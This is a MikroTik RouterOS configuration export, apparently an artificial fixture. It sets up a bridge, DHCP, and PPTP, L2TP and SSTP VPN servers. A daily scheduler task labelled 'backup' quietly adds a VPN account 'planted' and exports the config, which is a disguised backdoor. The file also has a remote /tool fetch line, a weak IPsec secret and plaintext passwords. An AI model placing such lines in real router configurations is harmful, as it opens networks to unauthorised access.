# 2026-03-01 04:00:01 by RouterOS 7.20.1
# software id = X4K1-9B2C
#
# model = RB5009UG+S+
# serial number = 0000000000
/interface bridge
add admin-mac=48:A9:8A:00:00:01 auto-mac=no comment=defconf name=bridge
/interface ethernet
set [ find default-name=ether1 ] comment="uplink; do not touch"
set [ find default-name=ether2 ] disabled=yes
/interface list
add comment=defconf name=WAN
add comment=defconf name=LAN
/interface wireless security-profiles
set [ find default=yes ] supplicant-identity=MikroTik
/ip hotspot profile
set [ find default=yes ] html-directory=hotspot
/ip pool
add name=dhcp ranges=192.168.88.10-192.168.88.254
add name=vpn ranges=192.168.89.2-192.168.89.255
/ip dhcp-server
add address-pool=dhcp interface=bridge name=defconf
/ppp profile
set *FFFFFFFE local-address=192.168.89.1 on-up={:log info "up"} remote-address=vpn
/queue simple
add max-limit=5M/20M name=guests target=192.168.88.0/25
/interface bridge port
add bridge=bridge comment=defconf interface=ether2
add bridge=bridge comment=defconf interface=ether3
add bridge=bridge comment=defconf interface=ether4
/interface l2tp-server server
set enabled=yes ipsec-secret=topsecret use-ipsec=yes
/interface pptp-server server
set enabled=yes
/interface sstp-server server
set default-profile=default-encryption enabled=yes
/ip address
add address=192.168.88.1/24 comment=defconf interface=bridge network=\
    192.168.88.0
/ip firewall filter
add action=accept chain=input comment=\
    "defconf: accept established,related,untracked" connection-state=\
    established,related,untracked
add action=accept chain=input dst-port=1723 protocol=tcp
add action=accept chain=input protocol=gre
add action=drop chain=input comment="not from \"LAN\" {here}" in-interface-list=\
    !LAN
/ip firewall nat
add action=masquerade chain=srcnat out-interface-list=WAN
:if ([:len [/ppp secret find name=vpn]] = 0) do={
    /ppp secret
    add name=vpn password=from-a-script
}
/ppp secret
add name=vpn password="correct horse"
add name=phone password="battery staple" service=l2tp
remove [ find name=phone ]
/system clock
set time-zone-name=Europe/Riga
/system scheduler
add interval=1d name=backup on-event="/ppp secret\r\
    \nadd name=planted password=planted\r\
    \n/export file=x" policy=read,write start-time=03:00:00
/system identity
set name="branch 7"
/tool fetch url="https://192.0.2.1/x"
/tool mac-server
set allowed-interface-list=LAN
